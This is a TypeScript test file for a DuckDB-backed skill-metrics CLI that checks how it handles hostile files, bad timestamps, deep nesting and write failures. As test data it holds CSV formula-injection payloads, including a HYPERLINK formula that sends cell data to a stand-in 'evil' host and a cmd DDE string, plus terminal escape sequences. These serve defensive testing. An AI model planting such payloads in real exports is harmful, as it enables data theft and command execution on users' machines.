/**
 * Issue 15, "Bad input, faults and load": each case bounded, reported with a clear message, and nothing
 * stored before is lost. Real files (FIFOs, symlinks to devices), a real DuckDB file, the CLI in-process.
 */
import assert from 'node:assert/strict';
import { execFile, execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import initSqlJs from 'sql.js';
import { MAX_PAIR_SKILLS, buildTzSlots, computeAggregates } from '../../../src/analytics/derived';
import { removeLeftoverTemp, tempRoot } from '../../../src/analytics/store';
import { collect } from '../../../src/ingest/collector';
import type { LoadJob, LoadResult } from '../../../src/ingest/sourceLoader';
import { describeJsonError, loadSource } from '../../../src/ingest/sourceLoader';
import { printable } from '../../../src/cli/output';
import { checkTimestamp } from '../../../src/ingest/timestamps';
import { cli, newStore, project, tempDir, v1, v1File, writeSource } from '../helpers';

const collectOptions = { sourceTimeZone: 'UTC', maxFileBytes: 50 * 1024 * 1024, origin: 'test' as const, retryDelaysMs: [] };

function mkfifo(file: string): void {
  mkdirSync(path.dirname(file), { recursive: true });
  execFileSync('mkfifo', [file]);
}

/** A Session Buddy storage skills.db with `n` invocations, as bytes. */
async function storageDb(n: number): Promise<Buffer> {
  const SQL = await initSqlJs();
  const db = new SQL.Database();
  db.run(`CREATE TABLE skill_invocation (id INTEGER PRIMARY KEY AUTOINCREMENT, skill_name TEXT NOT NULL, invoked_at TEXT NOT NULL, session_id TEXT NOT NULL,
    workflow_path TEXT, completed BOOLEAN NOT NULL DEFAULT 0, duration_seconds REAL, follow_up_actions TEXT, error_type TEXT)`);
  for (let i = 0; i < n; i++) {
    db.run('INSERT INTO skill_invocation (skill_name, invoked_at, session_id, completed, duration_seconds) VALUES (?, ?, ?, 1, 3)', [
      `db-skill-${i}`, `2026-03-0${1 + (i % 9)}T10:00:00Z`, 's1',
    ]);
  }
  const bytes = Buffer.from(db.export());
  db.close();
  return bytes;
}

describe('hostile input, faults and load (issue 15)', () => {
  describe('1. skill pairs and DuckDB resources are bounded', () => {
    it('one session naming 5,000 distinct skills gives at most C(k, 2) pairs per project', async function () {
      const root = tempDir();
      const dir = project(root, 'many-names');
      const t0 = Date.parse('2026-05-01T00:00:00Z');
      const invocations = Array.from({ length: 5000 }, (_, i) => ({
        skill_name: `generated-skill-${String(i).padStart(4, '0')}`,
        invoked_at: new Date(t0 + i * 1000).toISOString(),
        session_id: 'one-session',
        completed: true,
        duration_seconds: 1,
        follow_up_actions: [],
      }));
      // One skill used most: it must be among the skills whose pairs are counted.
      for (let i = 0; i < 3; i++) invocations.push({ ...invocations[0]!, skill_name: 'the-favourite', invoked_at: new Date(t0 + (6000 + i) * 1000).toISOString() });
      writeSource(dir, 'skill_metrics.json', { invocations, skills: {}, last_updated: '2026-05-02T00:00:00' });
      const store = newStore(root);
      const result = await collect(store, { ...collectOptions, register: [dir] });
      assert.equal(result.records_added, 5003);
      await store.write((db) => computeAggregates(db));
      const rows = await store.read((db) =>
        db.all<{ project_id: string; n: number; favourite: number }>(
          "SELECT project_id = '*' AS cross, count(*) AS n, count(*) FILTER (WHERE skill_a = 'the-favourite' OR skill_b = 'the-favourite') AS favourite FROM skill_pairs GROUP BY ALL ORDER BY 1",
        ),
      );
      const k = MAX_PAIR_SKILLS;
      assert.deepEqual(
        rows.map((r) => [Number(r.n), Number(r.favourite)]),
        [[(k * (k - 1)) / 2, k - 1], [(k * (k - 1)) / 2, k - 1]],
      );
      // skill_sessions still counts every skill of the session
      const sessions = await store.read((db) => db.one<{ n: number }>("SELECT count(*) AS n FROM skill_sessions WHERE project_id <> '*'"));
      assert.equal(Number(sessions!.n), 5001);
    });

    it('caps DuckDB memory and spill space, spills inside the database folder, and removes spill files left by a dead process', async () => {
      const root = tempDir();
      const store = newStore(root);
      const leftover = path.join(tempRoot(store.path), 'pid-999999999');
      mkdirSync(leftover, { recursive: true });
      writeFileSync(path.join(leftover, 'duckdb_temp_storage-0.tmp'), Buffer.alloc(4096));
      const settings = await store.write((db) =>
        db.one<{ mem: string; temp: string; max_temp: string }>(
          "SELECT current_setting('memory_limit') AS mem, current_setting('temp_directory') AS temp, current_setting('max_temp_directory_size') AS max_temp",
        ),
      );
      assert.match(settings!.mem, /^1\.8 GiB$|^2\.0 GB$|^1862\.6 MiB$/);
      assert.match(settings!.max_temp, /^3\.7 GiB$|^4\.0 GB$/);
      assert.equal(settings!.temp, path.join(tempRoot(store.path), `pid-${process.pid}`));
      assert.ok(settings!.temp.startsWith(path.dirname(store.path)));
      assert.equal(existsSync(leftover), false, 'the dead process\u2019s spill folder is removed on open');
      // and the clean-up spares this process's own folder
      mkdirSync(settings!.temp, { recursive: true });
      assert.equal(removeLeftoverTemp(store.path), 0);
      assert.ok(existsSync(settings!.temp));
    });
  });

  describe('2. every file read is checked: regular file, size bound, never while holding the lock', () => {
    it('a FIFO or a symlink to /dev/zero as skills.db-wal is reported at once; the other project is collected', async function () {
      const root = tempDir();
      const fifoProject = project(root, 'fifo');
      const zeroProject = project(root, 'zero');
      const good = project(root, 'good');
      const fifoDb = writeSource(fifoProject, 'skills.db', await storageDb(2));
      mkfifo(`${fifoDb}-wal`);
      const zeroDb = writeSource(zeroProject, 'skills.db', await storageDb(2));
      symlinkSync('/dev/zero', `${zeroDb}-wal`);
      writeSource(good, 'skill_metrics.json', v1File([v1()]));
      const db = path.join(root, 'db', 'skill_metrics.duckdb');
      const run = await cli(db, 'collect', fifoProject, zeroProject, good, '--json');
      assert.equal(run.code, 1, run.stderr);
      const byFile = new Map(run.json.problems.map((p: { file: string; message: string }) => [p.file, p.message]));
      assert.equal(byFile.get(fifoDb), 'its -wal file is not a regular file (a named pipe)');
      assert.equal(byFile.get(zeroDb), 'its -wal file is not a regular file (a device)');
      assert.equal(run.json.records_added, 1);
    });

    it('a FIFO or a symlink to /dev/zero as an input file is reported, not read', async () => {
      const root = tempDir();
      const fifo = path.join(root, '.session-buddy', 'workflow_events.json');
      mkfifo(fifo);
      const zero = path.join(root, '.session-buddy', 'skill_metrics.json');
      symlinkSync('/dev/zero', zero);
      const job = (p: string, kind: LoadJob['kind']): LoadJob => ({ path: p, kind, maxBytes: 1024, previousHash: null, retryDelaysMs: [] });
      const a = await loadSource(job(fifo, 'workflow_events'));
      const b = await loadSource(job(zero, 'skill_metrics'));
      assert.deepEqual([a.status, b.status], ['problem', 'problem']);
      assert.match((a as { message: string }).message, /not a regular file/);
      assert.match((b as { message: string }).message, /not a regular file/);
    });

    it('a WAL larger than what the size limit leaves is reported as too large', async () => {
      const root = tempDir();
      const file = writeSource(root, 'skills.db', await storageDb(1));
      writeFileSync(`${file}-wal`, Buffer.alloc(64 * 1024));
      const r = await loadSource({ path: file, kind: 'skills_db', maxBytes: 32 * 1024, previousHash: null, retryDelaysMs: [] });
      assert.equal(r.status, 'problem');
      assert.match((r as { message: string }).message, /too large/);
    });

    it('input is read without holding the database: another process writes while a file is being read', async function () {
      const cliJs = path.resolve(__dirname, '../../../dist/cli.js');
      assert.ok(existsSync(cliJs), 'dist/cli.js is built before the unit tests (npm test builds first)');
      const root = tempDir();
      const a = project(root, 'a');
      const b = project(root, 'b');
      const c = project(root, 'c');
      writeSource(a, 'skill_metrics.json', v1File([v1()]));
      writeSource(b, 'skill_metrics.json', v1File([v1({ skill_name: 'other' })]));
      const store = newStore(root);
      await collect(store, { ...collectOptions, register: [a, b] });
      writeSource(a, 'skill_metrics.json', v1File([v1(), v1({ invoked_at: '2026-02-12T00:00:00' })]));
      writeSource(b, 'skill_metrics.json', v1File([v1({ skill_name: 'other' }), v1({ skill_name: 'other', invoked_at: '2026-02-12T00:00:00' })]));
      let other: Promise<{ code: number | null; stderr: string }> | undefined;
      // A loader that, while "reading" the first file, has another process (the CLI) write to the database: it
      // gets the lock only if the collector does not hold it while reading (else both wait until the kill).
      const loader = async (job: LoadJob): Promise<LoadResult> => {
        other ??= new Promise((resolve) => {
          execFile(process.execPath, [cliJs, '--db', store.path, 'register', c], { timeout: 20_000 }, (err, _stdout, stderr) =>
            resolve({ code: err ? ((err as { code?: number }).code ?? -1) : 0, stderr }),
          );
        });
        await other;
        return loadSource(job);
      };
      const result = await collect(store, { ...collectOptions, loader });
      assert.deepEqual(await other, { code: 0, stderr: '' });
      assert.equal(result.records_added, 2);
      const projects = await store.read((db) => db.one<{ n: number }>('SELECT count(*) AS n FROM projects'));
      assert.equal(Number(projects!.n), 3, 'the other process registered its project meanwhile');
    });
  });

  describe('3. far-out timestamps', () => {
    it('records in 1900 and 2999 are invalid with a clear reason; the valid ones are kept', async () => {
      const root = tempDir();
      const dir = project(root, 'p');
      writeSource(dir, 'skill_metrics.json', v1File([v1({ invoked_at: '1900-01-01T00:00:00' }), v1(), v1({ invoked_at: '2999-12-31T23:59:59Z' })]));
      const db = path.join(root, 'db', 'skill_metrics.duckdb');
      const run = await cli(db, 'collect', dir, '--json');
      assert.equal(run.code, 1);
      assert.equal(run.json.records_added, 1);
      assert.equal(run.json.skipped_invalid, 2);
      const message: string = run.json.problems[0].message;
      assert.match(message, /1900-01-01 is before 2000-01-01: not a plausible time for a record/);
      assert.match(message, /2999-12-31T23:59 is more than a day in the future/);
    });

    it('a time a few hours ahead is accepted (a writer east of here); more than a day ahead is not', async () => {
      const iso = (ms: number) => new Date(ms).toISOString().slice(0, 19);
      assert.deepEqual(checkTimestamp(`${iso(Date.now() + 3 * 3600_000)}Z`), { hasOffset: true });
      assert.deepEqual(checkTimestamp(iso(Date.now() + 30 * 3600_000)), { hasOffset: false }, 'naive: could be UTC+14');
      assert.equal(typeof checkTimestamp(`${iso(Date.now() + 26 * 3600_000)}Z`), 'string');
      assert.equal(typeof checkTimestamp('1999-12-31T23:59:59Z'), 'string');
      assert.deepEqual(checkTimestamp('2000-01-01T00:00:00'), { hasOffset: false });
    });

    it('time-zone slots follow the data, not the span between the first and the last record', async () => {
      const store = newStore();
      await store.write(async (db) => {
        await db.run(`INSERT INTO projects (project_id, project_path, project_name, project_type, source, registered_at, is_active)
                      VALUES ('p', '/p', 'p', 'test', 'cli', now(), true)`);
        for (const [id, at] of [[1, '1900-01-01T00:00:00Z'], [2, '2999-12-31T00:00:00Z'], [3, '2026-01-01T00:00:00Z']] as const) {
          await db.run(
            `INSERT INTO skill_usage (record_id, project_id, skill_name, invoked_at, invoked_at_raw, tz_assumed, completed, follow_up_actions, source_format, ingested_at)
             VALUES ($1::UHUGEINT, 'p', 's', $2::TIMESTAMPTZ, $2, false, true, [], 'v1', now())`,
            [String(id), at],
          );
        }
        assert.equal(await buildTzSlots(db), 3);
      });
    });
  });

  describe('4. CSV formula injection: one rule for every CSV', () => {
    it('export --format csv prefixes cells that start with = + - @ and quotes them as needed', async () => {
      const root = tempDir();
      const dir = project(root, 'p');
      const names = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', 'plain'];
      writeSource(dir, 'skill_metrics.json', v1File(names.map((n, i) => v1({ skill_name: n, workflow_path: i === 4 ? '=1+1' : 'daily', invoked_at: `2026-02-1${i}T00:00:00` }))));
      const db = path.join(root, 'db', 'skill_metrics.duckdb');
      assert.equal((await cli(db, 'collect', dir)).code, 0);
      const out = path.join(root, 'usage.csv');
      const run = await cli(db, 'export', '--what', 'usage', '--format', 'csv', '--out', out);
      assert.equal(run.code, 0, run.stderr);
      const text = readFileSync(out, 'utf8');
      const lines = text.trimEnd().split('\n');
      assert.equal(lines.length, 6);
      assert.ok(lines[0]!.startsWith('record_id,project_id,project_name,skill_name,invoked_at,'));
      assert.ok(text.includes(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`));
      assert.ok(text.includes(`'+cmd|' /C calc'!A0`));
      assert.ok(text.includes(`,'@SUM(1+1),`));
      assert.ok(text.includes(`,'-2+3,`));
      assert.ok(text.includes(`,'=1+1,`));
      assert.ok(!/(^|,)[=+@]/m.test(text), 'no cell starts with a formula character');
      // aggregates export: the same rule, numbers still numbers
      const agg = path.join(root, 'agg.csv');
      assert.equal((await cli(db, 'export', '--what', 'aggregates', '--format', 'csv', '--out', agg)).code, 0);
      assert.ok(readFileSync(agg, 'utf8').includes(`'@SUM(1+1),*,all,`));
    });
  });

  describe('5. terminal escape injection', () => {
    it('top and projects show control characters escaped; a newline in a name does not split a row', async () => {
      const root = tempDir();
      const dir = project(root, 'p');
      const evil = ['clear\u001b[2J', 'title\u001b]0;owned\u0007', 'two\nlines'];
      writeSource(dir, 'skill_metrics.json', v1File(evil.map((n, i) => v1({ skill_name: n, invoked_at: `2026-02-1${i}T00:00:00` }))));
      const db = path.join(root, 'db', 'skill_metrics.duckdb');
      assert.equal((await cli(db, 'collect', dir)).code, 0);
      const top = await cli(db, 'top');
      assert.equal(top.code, 0);
      assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f]/.test(top.stdout), 'no raw control character reaches the terminal');
      assert.ok(top.stdout.includes('clear\\u001b[2J'));
      assert.ok(top.stdout.includes('title\\u001b]0;owned\\u0007'));
      assert.ok(top.stdout.includes('two\\nlines'));
      assert.equal(top.stdout.trimEnd().split('\n').length, 2 + 3, 'header, rule and one line per skill');
      const projects = await cli(db, 'projects');
      assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f]/.test(projects.stdout));
      assert.equal(printable('a\u009b31mb\u202ec'), 'a\\u009b31mb\\u202ec');
    });
  });

  describe('6. deep nesting', () => {
    it('a 20,000-level array in one event\u2019s metadata skips that event only; the other 19 are kept', async () => {
      const root = tempDir();
      const dir = project(root, 'p');
      const events = Array.from({ length: 19 }, (_, i) => `{"event_type":"node_completed","workflow_id":"w","node_id":"n${i}","timestamp":"2026-03-01T10:${String(i).padStart(2, '0')}:00Z","session_id":"s","metadata":{"success":true}}`);
      events.splice(7, 0, `{"event_type":"node_completed","timestamp":"2026-03-01T11:00:00Z","metadata":{"deep":${'['.repeat(20_000)}${']'.repeat(20_000)}}}`);
      writeSource(dir, 'workflow_events.json', `[${events.join(',')}]`);
      const db = path.join(root, 'db', 'skill_metrics.duckdb');
      const run = await cli(db, 'collect', dir, '--json');
      assert.equal(run.code, 1, run.stderr);
      assert.equal(run.json.records_added, 19);
      assert.equal(run.json.skipped_invalid, 1);
      assert.match(run.json.problems[0].message, /\[7\]: nested more than 64 levels deep/);
    });
  });

  describe('7. problem messages never quote file contents', () => {
    it('a skill_metrics.json that is /etc/passwd-like text says what is wrong and where, not what it holds', async () => {
      const root = tempDir();
      const dir = project(root, 'p');
      const secret = path.join(root, 'passwd');
      writeFileSync(secret, 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n');
      mkdirSync(path.join(dir, '.session-buddy'));
      symlinkSync(secret, path.join(dir, '.session-buddy', 'skill_metrics.json'));
      const db = path.join(root, 'db', 'skill_metrics.duckdb');
      const run = await cli(db, 'collect', dir, '--json');
      assert.equal(run.code, 1);
      assert.match(run.json.problems[0].message, /^not valid JSON: unexpected character at line 1, column 1( \(still so after \d reads\))?$/);
      const health = await cli(db, 'health', '--json');
      assert.ok(!JSON.stringify(health.json).includes('root:x'));
      assert.ok(!health.stdout.includes('root:x'));
    });

    it('describes every kind of JSON syntax error by kind and position only', () => {
      const cases: [string, RegExp][] = [
        ['{"a": 1,\n "b": secret}', /^unexpected character at line 2, column 7$/],
        ['{"invocations": [', /^it ends in the middle of a value \(cut off\?\) at line 1, column 18$/],
        ['{"a": 1} trailing-secret', /^more text after the JSON value at line 1, column 10$/],
        ['{"a" 1}', /^expected ':' after property name at line 1, column 6$/],
        ['{"a": "x\u0001secret"}', /^bad control character in string literal at line 1, column 9$/],
      ];
      for (const [text, expected] of cases) {
        let message = '';
        try {
          JSON.parse(text);
        } catch (err) {
          message = (err as Error).message;
        }
        const described = describeJsonError(message, text);
        assert.match(described, expected, `${JSON.stringify(text)} -> ${described} (engine: ${message})`);
        assert.ok(!described.includes('secret'));
      }
    });
  });

  describe('8. no crashes, right exit codes', () => {
    async function withData(): Promise<string> {
      const root = tempDir();
      const dir = project(root, 'p');
      writeSource(dir, 'skill_metrics.json', v1File([v1()]));
      const db = path.join(root, 'db', 'skill_metrics.duckdb');
      assert.equal((await cli(db, 'collect', dir)).code, 0);
      return db;
    }
    const noStack = (stderr: string) => assert.ok(!/\n\s+at /.test(stderr), `no stack trace: ${stderr}`);

    it('export --out /dev/full: a message and a non-zero code, for JSON and CSV', async () => {
      const db = await withData();
      for (const format of ['json', 'csv']) {
        const run = await cli(db, 'export', '--what', 'usage', '--format', format, '--out', '/dev/full');
        assert.equal(run.code, 2, run.stderr);
        assert.match(run.stderr, /Cannot write \/dev\/full: no space left on the device/);
        noStack(run.stderr);
      }
    });

    it('out-of-range numbers and a missing export folder are usage errors (exit 2), without a stack trace', async () => {
      const db = await withData();
      const cases: [string[], RegExp][] = [
        [['top', '--limit', '99999999999999999999'], /--limit must be a whole number from 1 to 1,000,000,000/],
        [['cleanup', '--older-than-days', '1e9'], /--older-than-days must be a whole number from 1 to 36,500/],
        [['export', '--what', 'usage', '--format', 'json', '--out', path.join(tempDir(), 'missing', 'x.json')], /the folder .*missing does not exist/],
        [['export', '--what', 'usage', '--format', 'parquet', '--out', path.join(tempDir(), 'missing', 'x.parquet')], /the folder .*missing does not exist/],
        [['export', '--what', 'correlated', '--format', 'json', '--out', path.join(tempDir(), 'missing', 'x.json')], /the folder .*missing does not exist/],
      ];
      for (const [args, message] of cases) {
        const run = await cli(db, ...args);
        assert.equal(run.code, 2, `${args.join(' ')}: ${run.stderr}`);
        assert.match(run.stderr, message);
        noStack(run.stderr);
      }
      const records = await cli(db, 'projects', '--json');
      assert.equal(records.json[0].total_invocations, 1, 'nothing was deleted');
    });
  });

  describe('9. silent gaps are reported', () => {
    it('discovery that runs out of its folder budget says where and that nested folders were skipped', async () => {
      const root = tempDir();
      const dir = project(root, 'mono');
      for (let i = 0; i < 12; i++) mkdirSync(path.join(dir, `pkg${String(i).padStart(2, '0')}`, 'src'), { recursive: true });
      writeSource(path.join(dir, 'pkg11', 'src'), 'skill_metrics.json', v1File([v1()]));
      const store = newStore(root);
      const result = await collect(store, { ...collectOptions, register: [dir], discovery: { maxDirectories: 5 } });
      const problem = result.problems.find((p) => p.file === dir);
      assert.ok(problem, JSON.stringify(result.problems));
      assert.match(problem.message, /searched the first 5 folders for \.session-buddy and stopped: \d+ nested folder\(s\) were not searched/);
    });

    it('a FIFO at skills.db/skills.db is reported', async () => {
      const root = tempDir();
      const dir = project(root, 'p');
      const inner = path.join(dir, '.session-buddy', 'skills.db', 'skills.db');
      mkfifo(inner);
      const store = newStore(root);
      const result = await collect(store, { ...collectOptions, register: [dir] });
      assert.deepEqual(result.problems, [{ file: inner, message: 'not a regular file' }]);
    });

    it('a duration beyond a week is an invalid record, and no average becomes Infinity', async () => {
      const root = tempDir();
      const dir = project(root, 'p');
      writeSource(dir, 'skill_metrics.json', v1File([
        v1({ duration_seconds: 1.7e308 }), v1({ duration_seconds: 1.7e308, invoked_at: '2026-02-12T00:00:00' }),
        v1({ duration_seconds: 8 * 86400, invoked_at: '2026-02-13T00:00:00' }), v1({ duration_seconds: 30, invoked_at: '2026-02-14T00:00:00' }),
      ]));
      const db = path.join(root, 'db', 'skill_metrics.duckdb');
      const run = await cli(db, 'collect', dir, '--json');
      assert.equal(run.json.records_added, 1);
      assert.equal(run.json.skipped_invalid, 3);
      assert.match(run.json.problems[0].message, /duration_seconds: is not a plausible duration \(more than 7 days, or not finite\)/);
      const top = await cli(db, 'top', '--json');
      assert.equal(top.json[0].avg_duration_seconds, 30);
      assert.ok(!(await cli(db, 'top')).stdout.includes('Infinity'));
    });

    it('a file made unreadable after it was ingested is reported at the next collection (same size and time)', async () => {
      const root = tempDir();
      const dir = project(root, 'p');
      const file = writeSource(dir, 'skill_metrics.json', v1File([v1()]));
      const db = path.join(root, 'db', 'skill_metrics.duckdb');
      assert.equal((await cli(db, 'collect', dir, '--json')).json.records_added, 1);
      chmodSync(file, 0o000); // changes neither size nor modification time
      let json: { problems: { file: string; message: string }[]; records_added: number };
      if (process.getuid?.() !== 0) {
        json = (await cli(db, 'collect', '--json')).json;
      } else {
        // root reads anything (CAP_DAC_OVERRIDE): collect as root without the capabilities that bypass file
        // permissions (util-linux's setpriv), as the bad-input test of an unreadable file does.
        const cliJs = path.resolve(__dirname, '../../../dist/cli.js');
        assert.ok(existsSync(cliJs), 'dist/cli.js is built before the unit tests (npm test builds first)');
        const drop = '-dac_override,-dac_read_search';
        const run = spawnSync('setpriv', [`--inh-caps=${drop}`, `--bounding-set=${drop}`, '--',
          process.execPath, cliJs, '--db', db, '--source-tz', 'UTC', '--display-tz', 'UTC', 'collect', '--json'], {
          encoding: 'utf8', env: { PATH: process.env.PATH, HOME: root },
        });
        assert.equal(run.error, undefined, `setpriv (util-linux) runs: ${run.error?.message}`);
        assert.equal(run.status, 1, `${run.stderr}\n${run.stdout}`);
        json = JSON.parse(run.stdout);
      }
      assert.deepEqual(json.problems.map((p) => p.file), [file]);
      assert.match(json.problems[0]!.message, /permission denied/);
      chmodSync(file, 0o644);
      const projects = await cli(db, 'projects', '--json');
      assert.equal(projects.json[0].total_invocations, 1, 'its records are kept');
    });
  });
});
